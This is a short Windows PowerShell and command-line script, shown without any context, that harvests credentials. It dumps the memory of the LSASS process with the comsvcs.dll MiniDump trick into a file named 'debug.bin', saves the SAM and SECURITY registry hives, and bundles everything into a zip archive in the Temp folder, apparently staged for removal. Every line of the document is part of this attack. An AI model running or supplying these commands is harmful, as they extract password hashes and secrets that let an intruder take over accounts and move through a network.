$lsass = Get-Process -Name lsass
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id C:\Windows\Temp\debug.bin full
reg save HKLM\SAM C:\Windows\Temp\sam.save
reg save HKLM\SECURITY C:\Windows\Temp\security.save
Compress-Archive -Path C:\Windows\Temp\*.save, C:\Windows\Temp\debug.bin -DestinationPath C:\Windows\Temp\out.zip
